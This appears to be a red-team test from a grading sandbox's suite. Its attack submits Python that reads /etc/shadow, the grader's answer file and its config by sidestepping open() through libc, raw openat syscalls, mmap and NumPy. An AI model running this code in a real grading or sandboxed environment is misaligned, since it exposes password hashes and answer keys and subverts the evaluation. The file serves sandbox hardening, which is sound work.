"""Files are read by NumPy, by mmap and by the C library instead of `open`.

Success: any canary.
"""

from tests.red_team.submission import SHOW


def attack(submission):
    submission.first(
        SHOW
        + """
import ctypes, mmap, os
for path in ("/srv/course/answers.py", "/etc/shadow", "/etc/grader.conf", "../../../notes.txt"):
    libc = ctypes.CDLL(None)
    libc.syscall.restype = ctypes.c_long
    fd = libc.open(path.encode(), 0)
    if fd < 0:  # openat2, and openat by its number
        fd = libc.syscall(437, -100, path.encode(), (ctypes.c_uint64 * 3)(), 24)
    if fd < 0:
        fd = libc.syscall(257, -100, path.encode(), 0, 0)
    if fd >= 0:
        show(os.pread(fd, 1 << 20, 0))
        show(bytes(mmap.mmap(fd, 0, prot=mmap.PROT_READ)))
    try:
        show(np.fromfile(path, np.uint8).tobytes())
    except Exception:
        pass
"""
    )
